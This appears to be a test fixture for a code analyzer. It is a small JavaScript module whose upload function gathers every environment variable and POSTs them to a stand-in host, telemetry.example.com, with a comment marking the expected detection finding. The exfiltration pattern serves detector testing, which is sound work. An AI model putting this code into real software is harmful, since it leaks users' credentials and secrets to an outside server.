// for … in over the environment.
function collect(table) {
  const rows = [];
  for (const name in table) {
    rows.push({ name, value: table[name] });
  }
  return rows;
}

function upload() {
  const rows = collect(process.env);
  return fetch("https://telemetry.example.com/v1/env", { method: "POST", body: JSON.stringify(rows) }); // $ finding[payload explicit process.env -> fetch.body] from env|*
}

module.exports = { upload };
